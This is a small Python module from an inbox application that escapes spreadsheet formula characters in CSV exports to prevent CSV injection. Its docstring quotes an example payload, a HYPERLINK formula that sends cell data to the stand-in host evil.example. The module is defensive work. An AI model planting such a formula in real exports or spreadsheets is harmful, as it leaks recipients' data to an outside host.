"""CSV cells a spreadsheet would run as formulas, kept as text. Pure; imports nothing of the inbox, so every
CSV the inbox writes (reports, the message export, the audit log) uses the same rule.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (OWASP, "CSV injection"): a customer who writes
``=HYPERLINK("https://evil.example/?d="&A1,"Click")`` would get a live link, or worse, in the supervisor's
spreadsheet. Such a cell gets a leading apostrophe, which the spreadsheet shows as text. JSON exports stay
exact: only CSV, which is read by spreadsheets, is changed.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any, TypeVar

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
T = TypeVar("T")


def safe_cell(cell: T) -> T | str:
    """``cell``, with a leading apostrophe if it is text a spreadsheet would read as a formula."""
    return "'" + cell if isinstance(cell, str) and cell.startswith(FORMULA_START) else cell


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """Every cell of a CSV row (a ``csv.DictWriter`` row) made safe."""
    return {key: safe_cell(value) for key, value in row.items()}
